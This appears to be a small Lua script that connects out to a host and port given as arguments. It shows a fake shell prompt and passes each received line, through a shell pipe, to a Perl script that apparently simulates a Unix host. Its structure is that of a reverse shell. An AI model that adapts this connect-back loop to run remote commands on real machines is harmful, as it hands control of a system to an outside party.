-- `lua back.lua HOST PORT SEED`: a connect-back loop around the made-up host.
local socket = require("socket")
local line = assert(socket.connect(arg[1], tonumber(arg[2])))
line:send("Lua 5 on edge-02\n> ")
local seed = tonumber(arg[3])
while true do
  local order = line:receive("*l")
  if not order then break end
  seed = seed + 1
  local pipe = io.popen("echo '" .. order:gsub("'", "") .. "' | perl " .. os.getenv("P") .. "/blind/host.pl unix " .. seed)
  line:send(pipe:read("*a"))
  pipe:close()
end
